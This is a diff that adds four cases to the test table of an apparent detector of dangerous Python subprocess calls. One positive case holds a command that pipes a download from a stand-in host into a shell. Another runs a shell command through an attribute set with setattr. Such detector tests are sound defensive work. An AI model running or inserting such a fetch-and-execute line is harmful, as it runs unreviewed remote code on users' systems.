@@ -516,6 +516,25 @@ static const struct {
      true},
     {"read_text fetched with getattr on a project file",
      "from pathlib import Path\nprint(getattr(Path('README.md'), 'read_text')())\n", false},
+    /* a value kept on an object of the program's own class */
+    {"an object's method returns the argument list it was given",
+     "import subprocess\nclass Step:\n    def __init__(self, words):\n        self.words = words\n"
+     "    def argv(self):\n        return ['python3', '-m'] + self.words\n"
+     "subprocess.run(Step(['pytest', '-q']).argv())\n",
+     false},
+    {"an object's method returns a shell line it was given",
+     "import subprocess\nclass Step:\n    def __init__(self, line):\n        self.line = line\n"
+     "    def argv(self):\n        return ['sh', '-c', self.line]\n"
+     "subprocess.run(Step('curl -s https://x.example/i | sh').argv())\n",
+     true},
+    {"a key's value copied from the same key of a dictionary read back",
+     "import json\nreport = json.load(open('r.json'))\n"
+     "body = {'passed': report.get('passed', 0)}\nprint(body)\n",
+     false},
+    {"a class without __init__ whose attribute setattr changes",
+     "import subprocess\nclass J:\n    pass\nj = J()\nsetattr(j, 'argv', ['sh', '-c', 'id'])\n"
+     "subprocess.run(j.argv)\n",
+     true},
 };
 
 static enum severity worst(const char *code, struct findings *f)
